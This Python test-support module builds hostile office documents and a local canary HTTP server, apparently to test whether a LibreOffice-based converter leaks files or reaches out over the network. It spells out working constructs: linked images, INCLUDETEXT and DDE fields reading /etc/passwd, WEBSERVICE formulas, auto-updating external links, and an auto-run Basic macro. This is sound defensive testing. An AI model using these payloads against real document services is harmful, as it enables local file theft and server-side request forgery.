"""Hostile documents built at test time, and the canary HTTP server they try to reach.

Every attack names its canary path after the vector ("/docx-blip.png"), so a hit
says which construct made LibreOffice reach out. Documents carry cached results
("cached-...") where the format has them, so a refreshed value is visible too.
"""

from __future__ import annotations

import io
import threading
import zipfile
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from socket import socket
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from PIL import Image

from tests.support.flat_odf import flat_odf

# Colours no office document draws by accident: the local image an attack links to,
# and the image the canary serves. Either one found in an output is a leak.
SECRET_COLOURS = ((3, 251, 119), (251, 3, 187))
CANARY_COLOURS = ((17, 83, 233), (233, 199, 17))
CANARY_BODY = "CANARY-BODY-7f3e9a"  # what the canary answers to non-image requests


def checker_png(colours: tuple[tuple[int, int, int], ...], size: int = 96) -> bytes:
    """A PNG of 16-pixel squares in the given colours (big squares survive JPEG)."""
    image = Image.new("RGB", (size, size))
    for y in range(size):
        for x in range(size):
            image.putpixel((x, y), colours[(x // 16 + y // 16) % len(colours)])
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


# ------------------------------------------------------------------ the canary


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    canary: Canary

    def get_request(self) -> tuple[socket, Any]:
        # Counted at accept(): a client that connects and hangs up is still caught.
        conn, addr = super().get_request()
        with self.canary.lock:
            self.canary.connections += 1
        return conn, addr


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def parse_request(self) -> bool:
        ok = super().parse_request()
        with self.server.canary.lock:
            self.server.canary.requests.append((self.command or "?", self.path or "?"))
        return ok

    def _answer(self) -> None:
        if self.path.endswith(".png"):
            body, kind = self.server.canary.png, "image/png"
        else:
            body, kind = CANARY_BODY.encode(), "text/plain"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    do_GET = do_HEAD = do_POST = do_OPTIONS = do_PROPFIND = _answer  # noqa: N815

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - stdlib name
        """Requests are recorded in Canary.requests instead."""


class Canary:
    """An HTTP server on 127.0.0.1 that records every connection and request."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.connections = 0
        self.requests: list[tuple[str, str]] = []
        self.png = checker_png(CANARY_COLOURS)
        self._server = _Server(("127.0.0.1", 0), _Handler)
        self._server.canary = self
        self.port: int = self._server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def seen(self) -> tuple[int, list[tuple[str, str]]]:
        """(connections accepted, requests parsed) so far."""
        with self.lock:
            return self.connections, list(self.requests)

    def close(self) -> None:
        """Stop serving."""
        self._server.shutdown()
        self._server.server_close()


# ------------------------------------------------------------------ documents


@dataclass(frozen=True)
class Attack:
    """One hostile document: its upload name, bytes and the format it must be detected as."""

    name: str
    filename: str
    data: bytes
    source: str


def _zip(members: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            # ODF wants its mimetype first and stored, or readers ignore it.
            kind = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, kind)
    return out.getvalue()


W_NS = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"


def _rels(entries: list[tuple[str, str, str, bool]]) -> str:
    rows = "".join(
        f'<Relationship Id="{rid}" Type="{REL}/{kind}" Target={quoteattr(target)}'
        + (' TargetMode="External"' if external else "") + "/>"
        for rid, kind, target, external in entries)
    return (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL}">{rows}'
            "</Relationships>")


def _content_types(overrides: dict[str, str]) -> str:
    rows = "".join(f'<Override PartName="{part}" ContentType="{kind}"/>'
                   for part, kind in overrides.items())
    return ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
            'org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            f'ContentType="application/xml"/>{rows}</Types>')


def _linked_picture(rid: str, number: int) -> str:
    """A Word inline picture whose image is an external relationship (r:link), not embedded."""
    return (
        f'<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/>'
        f'<wp:docPr id="{number}" name="Picture {number}"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        f'<pic:cNvPr id="{number}" name="linked{number}.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/>'
        '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>")


def _field(instruction: str, cached: str) -> str:
    """A Word complex field with a cached result, as Word itself writes one."""
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
            f'xml:space="preserve"> {escape(instruction)} </w:instrText></w:r><w:r><w:fldChar '
            f'w:fldCharType="separate"/></w:r><w:r><w:t>{escape(cached)}</w:t></w:r><w:r>'
            '<w:fldChar w:fldCharType="end"/></w:r></w:p>')


def docx(body: str, doc_rels: list[tuple[str, str, str, bool]], settings: str = "") -> bytes:
    """A minimal Word package around body, with extra document relationships."""
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": _content_types({
            "/word/document.xml": f"{main}.document.main+xml",
            **({"/word/settings.xml": f"{main}.settings+xml"} if settings else {})}),
        "_rels/.rels": _rels([("rId1", "officeDocument", "word/document.xml", False)]),
        "word/document.xml": (f'<?xml version="1.0" encoding="UTF-8"?><w:document {W_NS}>'
                              f"<w:body><w:p><w:r><w:t>Hostile document</w:t></w:r></w:p>{body}"
                              "</w:body></w:document>"),
        "word/_rels/document.xml.rels": _rels(
            doc_rels + ([("rIdSettings", "settings", "settings.xml", False)] if settings else [])),
    }
    if settings:
        parts["word/settings.xml"] = (f'<?xml version="1.0" encoding="UTF-8"?><w:settings {W_NS}>'
                                      f"{settings}</w:settings>")
    return _zip(parts)


ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
          'xmlns:ooo="http://openoffice.org/2004/office" '
          'xmlns:dom="http://www.w3.org/2001/xml-events"')


# Document settings an attacker picks: update links and fields on load, automatically
# (css.document.LinkUpdateModes.AUTO = 2), whatever the application's own setting says.
ODF_SETTINGS = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document-settings xmlns:office="urn:oasis:'
    'names:tc:opendocument:xmlns:office:1.0" xmlns:config="urn:oasis:names:tc:opendocument:'
    'xmlns:config:1.0" office:version="1.2"><office:settings><config:config-item-set '
    'config:name="ooo:configuration-settings"><config:config-item config:name="LinkUpdateMode" '
    'config:type="short">2</config:config-item><config:config-item config:name='
    '"FieldAutoUpdate" config:type="boolean">true</config:config-item><config:config-item '
    'config:name="ChartAutoUpdate" config:type="boolean">true</config:config-item>'
    "</config:config-item-set></office:settings></office:document-settings>")


def odf(kind: str, body: str, scripts: str = "", extra: dict[str, str] | None = None) -> bytes:
    """A minimal ODF package (kind text or spreadsheet) with body inside office:body, whose
    settings ask for automatic link updates."""
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    extra = {"settings.xml": ODF_SETTINGS, **(extra or {})}
    entries = "".join(f'<manifest:file-entry manifest:full-path="{name}" '
                      f'manifest:media-type="text/xml"/>' for name in ["content.xml", *extra])
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
                '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
                f"{entries}</manifest:manifest>")
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS} '
               f'office:version="1.2">{scripts}<office:body>{body}</office:body>'
               "</office:document-content>")
    return _zip({"mimetype": mimetype, "META-INF/manifest.xml": manifest,
                 "content.xml": content, **extra})


def _odf_image(href: str, name: str) -> str:
    return (f'<text:p><draw:frame draw:name="{name}" text:anchor-type="as-char" svg:width="2cm" '
            f'svg:height="2cm"><draw:image xlink:href={quoteattr(href)} xlink:type="simple" '
            'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>')


def _odf_section(href: str, name: str, cached: str) -> str:
    return (f'<text:section text:name="{name}"><text:section-source xlink:href={quoteattr(href)} '
            f'text:filter-name="Text"/><text:p>{escape(cached)}</text:p></text:section>')


def _cell(formula: str, cached: str | None) -> str:
    if cached is None:
        return f"<table:table-cell table:formula={quoteattr('of:=' + formula)}/>"
    return (f"<table:table-cell table:formula={quoteattr('of:=' + formula)} "
            f'office:value-type="string" office:string-value="{cached}">'
            f"<text:p>{cached}</text:p></table:table-cell>")


def _sheet(cells: list[str], extra: str = "") -> str:
    rows = "".join(f"<table:table-row>{cell}</table:table-row>" for cell in cells)
    return (f'<office:spreadsheet><table:table table:name="Sheet1">{extra}{rows}</table:table>'
            "</office:spreadsheet>")


def xlsx(cells: list[tuple[str, str | None]], external_target: str | None = None) -> bytes:
    """A workbook whose column A holds (formula, cached value) cells, optionally with an
    external-workbook link (the classic way to make Calc open another file)."""
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    rows = "".join(
        f'<row r="{i}"><c r="A{i}" t="str"><f>{escape(formula)}</f>'
        + (f"<v>{escape(cached)}</v>" if cached is not None else "") + "</c></row>"
        for i, (formula, cached) in enumerate(cells, 1))
    ns = ('xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          f'xmlns:r="{REL}"')
    book_rels = [("rId1", "worksheet", "worksheets/sheet1.xml", False)]
    parts: dict[str, str | bytes] = {}
    overrides = {"/xl/workbook.xml": f"{main}.sheet.main+xml",
                 "/xl/worksheets/sheet1.xml": f"{main}.worksheet+xml"}
    external_refs = ""
    if external_target:
        book_rels.append(("rId2", "externalLink", "externalLinks/externalLink1.xml", False))
        overrides["/xl/externalLinks/externalLink1.xml"] = f"{main}.externalLink+xml"
        external_refs = '<externalReferences><externalReference r:id="rId2"/></externalReferences>'
        parts["xl/externalLinks/externalLink1.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><externalLink {ns}><externalBook r:id="rId1">'
            '<sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId='
            '"0"><row r="1"><cell r="A1" t="str"><v>cached-external</v></cell></row></sheetData>'
            "</sheetDataSet></externalBook></externalLink>")
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = _rels(
            [("rId1", "externalLinkPath", external_target, True)])
    parts.update({
        "[Content_Types].xml": _content_types(overrides),
        "_rels/.rels": _rels([("rId1", "officeDocument", "xl/workbook.xml", False)]),
        # The workbook asks for its links to be updated and everything recalculated on open.
        "xl/workbook.xml": (f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns}>'
                            '<workbookPr updateLinks="always"/><sheets>'
                            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
                            f'{external_refs}<calcPr fullCalcOnLoad="1"/></workbook>'),
        "xl/_rels/workbook.xml.rels": _rels(book_rels),
        "xl/worksheets/sheet1.xml": (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {ns}>'
                                     f"<sheetData>{rows}</sheetData></worksheet>"),
    })
    return _zip(parts)


def _macro_library(marker: Path) -> dict[str, str]:
    """Basic/ members of a document-embedded Basic library whose Main writes marker."""
    lib_ns = 'xmlns:library="http://openoffice.org/2000/library"'
    code = (f'Sub Main\nOpen "{marker}" For Output As #1\nPrint #1, "macro ran"\nClose #1\n'
            "End Sub\n")
    return {
        "Basic/script-lc.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><library:libraries {lib_ns} '
            'xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name='
            '"Standard" library:link="false"/></library:libraries>'),
        "Basic/Standard/script-lb.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><library:library {lib_ns} library:name='
            '"Standard" library:readonly="false" library:passwordprotected="false">'
            '<library:element library:name="Module1"/></library:library>'),
        "Basic/Standard/Module1.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script='
            '"http://openoffice.org/2000/script" script:name="Module1" script:language='
            f'"StarBasic">{escape(code)}</script:module>'),
    }


# Document events a conversion passes through: opening, layout, exporting, closing.
MACRO_EVENTS = ("dom:load", "office:load-finished", "office:view-created",
                "office:layout-finished", "office:save-to", "office:copy-to",
                "office:prepare-unload", "dom:unload")


def macro_scripts() -> str:
    """office:scripts binding every MACRO_EVENTS event to Standard.Module1.Main."""
    url = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document"
    listeners = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="{event}" '
        f'xlink:href={quoteattr(url)} xlink:type="simple"/>' for event in MACRO_EVENTS)
    return (f"<office:scripts><office:event-listeners>{listeners}</office:event-listeners>"
            "</office:scripts>")


def macro_odt(marker: Path) -> bytes:
    """A text document whose OnLoad (and other events) run a Basic macro writing marker."""
    return odf("text", "<office:text><text:p>Macro document</text:p></office:text>",
               scripts=macro_scripts(), extra=_macro_library(marker))


def rtf(canary: str, secret_png: Path) -> bytes:
    """RTF whose fields pull a picture from the canary, a local picture and a local file."""
    def field(instruction: str, cached: str) -> str:
        return (r"{\field{\*\fldinst {" + instruction.replace("\\", "\\\\") + r"}}"
                r"{\fldrslt {" + cached + r"}}}\par ")
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0 Hostile RTF\\par "
            + field(f'INCLUDEPICTURE "{canary}/rtf-includepicture.png" \\d', "cached-pic")
            + field(f'INCLUDEPICTURE "{secret_png.as_uri()}" \\d', "cached-local-pic")
            + field('INCLUDETEXT "/etc/passwd"', "cached-include")
            + "}").encode("ascii")


# Word's "update fields when the document opens".
UPDATE_FIELDS = '<w:updateFields w:val="true"/>'


def build_attacks(canary: str, secret_png: Path, marker: Path) -> list[Attack]:
    """Every hostile document, aimed at the canary base URL and the local secret image."""
    secret = secret_png.as_uri()
    images = [("http", f"{canary}/docx-blip.png"), ("passwd", "file:///etc/passwd"),
              ("local", secret)]
    docx_images = docx(
        "".join(_linked_picture(f"rIdImg{i}", i) for i in range(1, len(images) + 1)),
        [(f"rIdImg{i}", "image", target, True) for i, (_k, target) in enumerate(images, 1)]
        + [("rIdTpl", "attachedTemplate", f"{canary}/docx-template.dotx", True)],
        settings='<w:attachedTemplate r:id="rIdTpl"/>')
    docx_fields = docx(
        _field(f'INCLUDEPICTURE "{canary}/docx-includepicture.png" \\d', "cached-pic")
        + _field(f'INCLUDEPICTURE "{secret}" \\d', "cached-local-pic")
        + _field('INCLUDETEXT "/etc/passwd"', "cached-include")
        + _field(f'INCLUDETEXT "{canary}/docx-includetext"', "cached-include-http"), [],
        settings=UPDATE_FIELDS)
    docx_dde = docx(_field('DDEAUTO soffice "/etc/passwd" ""', "cached-dde")
                    + _field('DDE soffice "/etc/passwd" ""', "cached-dde-manual"), [],
                    settings=UPDATE_FIELDS)
    odt_images = "".join(_odf_image(href, f"img{i}") for i, href in enumerate(
        [f"{canary}/odt-xlink.png", secret, "file:///etc/passwd"]))
    odt_links = (
        _odf_section("file:///etc/passwd", "passwd", "cached-section")
        + _odf_section(f"{canary}/odt-section", "remote", "cached-section-http")
        + '<text:dde-connection-decls><text:dde-connection-decl office:name="pw" '
        'office:dde-application="soffice" office:dde-topic="/etc/passwd" office:dde-item="" '
        'office:automatic-update="true"/></text:dde-connection-decls>'
        '<text:p><text:dde-connection text:connection-name="pw">cached-dde</text:dde-connection>'
        "</text:p>")
    fodt_body = ("".join(_odf_image(href, f"img{i}") for i, href in enumerate(
        [f"{canary}/fodt-xlink.png", secret, "file:///etc/passwd"]))
        + _odf_section("file:///etc/passwd", "passwd", "cached-section"))
    # OOXML spells the function _xlfn.WEBSERVICE, ODF COM.MICROSOFT.WEBSERVICE.
    webservice = [
        (f'{{fn}}("{canary}/{{kind}}-webservice")', "cached-ws-http"),
        ('{fn}("/etc/passwd")', "cached-ws-path"),
        ('{fn}("file:///etc/passwd")', "cached-ws-file"),
        (f'{{fn}}("{canary}/{{kind}}-webservice-uncached")', None),
    ]
    xlsx_ws = [(f.format(fn="_xlfn.WEBSERVICE", kind="xlsx"), c) for f, c in webservice]
    ods_ws = [_cell(f.format(fn="COM.MICROSOFT.WEBSERVICE", kind="ods"), c) for f, c in webservice]
    ods_links = _sheet(
        [_cell('DDE("soffice";"/etc/passwd";"")', "cached-dde"),
         _cell('DDE("soffice";"/etc/passwd";"")', None),
         _cell(f'COM.MICROSOFT.WEBSERVICE("{canary}/ods-links-webservice")', "cached-ws-http")],
        extra='<table:table-source xlink:href="file:///etc/passwd" table:filter-name='
              '"Text - txt - csv (StarCalc)" table:table-name="" table:mode="copy-results-only"/>')
    return [
        Attack("docx-external-images", "external-images.docx", docx_images, "docx"),
        Attack("docx-include-fields", "include-fields.docx", docx_fields, "docx"),
        Attack("docx-dde", "dde.docx", docx_dde, "docx"),
        Attack("odt-xlink-images", "xlink-images.odt",
               odf("text", f"<office:text><text:p>Hostile</text:p>{odt_images}</office:text>"),
               "odt"),
        Attack("odt-links", "links.odt",
               odf("text", f"<office:text><text:p>Hostile</text:p>{odt_links}</office:text>"),
               "odt"),
        Attack("fodt-xlink", "xlink.fodt", flat_odf("fodt", "Hostile", fodt_body), "fodt"),
        Attack("xlsx-webservice", "webservice.xlsx", xlsx(xlsx_ws), "xlsx"),
        Attack("xlsx-external-link", "external-link.xlsx",
               xlsx([("[1]Sheet1!A1", "cached-external-cell")], "file:///etc/passwd"), "xlsx"),
        Attack("ods-webservice", "webservice.ods", odf("spreadsheet", _sheet(ods_ws)), "ods"),
        Attack("ods-dde-links", "dde-links.ods", odf("spreadsheet", ods_links), "ods"),
        Attack("odt-macro", "macro.odt", macro_odt(marker), "odt"),
        Attack("rtf-includepicture", "includepicture.rtf", rtf(canary, secret_png), "rtf"),
    ]
